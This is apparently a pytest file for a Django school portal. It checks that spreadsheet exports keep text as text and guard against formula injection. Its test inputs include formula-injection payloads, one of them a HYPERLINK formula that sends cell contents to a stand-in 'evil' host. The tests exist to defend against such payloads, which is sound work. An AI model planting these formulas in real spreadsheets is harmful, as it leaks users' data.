"""The one rule of the spreadsheets the portal writes: text stays text, never a formula."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from datetime import date, datetime

import pytest
import tablib
from django.contrib import admin
from import_export.admin import ExportMixin
from openpyxl import Workbook, load_workbook

from schools.spreadsheets import TextCSV, TextXLSX, csv_safe, put, text_row

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil/?"&A1,"x")',
    "=СУММ(A1:A3)",
    "+7 999 123-45-67",
    "-знакомство с методическими рекомендациями",
    "- знакомство с планом",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
]
PLAIN = ["Семинар для директоров", "МОБУ СОШ № 6", "1.1", "15.01.2026"]


def _read(content: bytes) -> list:
    return list(load_workbook(io.BytesIO(content)).worksheets[0].iter_rows())


@pytest.mark.parametrize("write_only", [True, False])
@pytest.mark.parametrize("text", HOSTILE + PLAIN)
def test_a_text_comes_back_as_the_same_text_cell(text, write_only):
    book = Workbook(write_only=write_only)
    if write_only:
        sheet = book.create_sheet("Лист")
        sheet.append(text_row(sheet, [text]))
    else:
        sheet = book.active
        put(sheet, 1, 1, text)
    out = io.BytesIO()
    book.save(out)
    (cell,) = _read(out.getvalue())[0]
    assert (cell.value, cell.data_type) == (text, "s")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_text_stays_text_when_edited(text):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Лист")
    sheet.append(text_row(sheet, [text, "обычный текст"]))
    out = io.BytesIO()
    book.save(out)
    hostile, plain = _read(out.getvalue())[0]
    assert hostile.quotePrefix and not plain.quotePrefix


@pytest.mark.parametrize(
    ("value", "data_type"),
    [(5, "n"), (-3, "n"), (2.5, "n"), (date(2026, 1, 15), "d"), (datetime(2026, 1, 15, 10, 30), "d")],
)
def test_numbers_and_dates_stay_numbers_and_dates(value, data_type):
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Лист")
    sheet.append(text_row(sheet, [value, None, "текст"]))
    out = io.BytesIO()
    book.save(out)
    cell, blank, _ = _read(out.getvalue())[0]
    assert cell.data_type == data_type and blank.value is None
    assert cell.value == (datetime(2026, 1, 15) if type(value) is date else value)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil/?"&A1,"x")', '\'=HYPERLINK("http://evil/?"&A1,"x")'),
        ("+7 999", "'+7 999"),
        ("-знакомство", "'-знакомство"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("Семинар; =1+1", "Семинар; =1+1"),
        ("МОБУ СОШ № 6", "МОБУ СОШ № 6"),
        ("", ""),
        (5, 5),
        (2.5, 2.5),
        (date(2026, 1, 15), date(2026, 1, 15)),
        (None, None),
    ],
)
def test_csv_safe_prefixes_a_formula_start_with_a_quote(value, expected):
    assert csv_safe(value) == expected


def test_the_csv_quotes_every_field_so_a_separator_cannot_start_a_cell():
    data = tablib.Dataset(['=1+2";=1+2', "Школа, =1+1", 7], headers=["Название", "Адрес", "Число"])
    text = TextCSV().export_data(data)
    assert text.splitlines()[1] == '"\'=1+2"";=1+2","Школа, =1+1","7"'
    assert list(csv.reader(io.StringIO(text)))[1] == ["'=1+2\";=1+2", "Школа, =1+1", "7"]


def test_the_admin_xlsx_keeps_texts_numbers_and_dates():
    data = tablib.Dataset(
        ["=1+1", 12, 4.5, date(2026, 1, 15)], headers=["Предмет", "Участников", "Балл", "Дата"]
    )
    header, row = _read(TextXLSX().export_data(data))
    assert [c.value for c in header] == ["Предмет", "Участников", "Балл", "Дата"]
    assert [(c.value, c.data_type) for c in row] == [
        ("=1+1", "s"),
        (12, "n"),
        (4.5, "n"),
        (datetime(2026, 1, 15), "d"),
    ]


def test_every_admin_export_uses_the_text_formats():
    """A new admin with an export and no ``formats`` would offer the library's own, unsafe ones."""
    for model_admin in admin.site._registry.values():
        if isinstance(model_admin, ExportMixin):
            formats = model_admin.get_export_formats()
            assert set(formats) <= {TextCSV, TextXLSX}, type(model_admin).__name__


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_the_text_not_the_result(tmp_path):
    """What a user opening the file sees: LibreOffice saves the sheet as CSV as it shows it."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("Лист")
    sheet.append(text_row(sheet, ["=1+1", '=HYPERLINK("http://evil/?"&A1,"x")', "+7 999", 5]))
    (tmp_path / "export.xlsx").write_bytes(_saved(book))
    profile = (tmp_path / "profile").as_uri()
    subprocess.run(
        ["soffice", f"-env:UserInstallation={profile}", "--headless", "--convert-to", "csv"]
        + ["--outdir", str(tmp_path / "out"), str(tmp_path / "export.xlsx")],
        check=True,
        capture_output=True,
        timeout=120,
    )
    shown = next(csv.reader((tmp_path / "out" / "export.csv").read_text().splitlines()))
    assert shown == ["=1+1", '=HYPERLINK("http://evil/?"&A1,"x")', "+7 999", "5"]


def _saved(book: Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
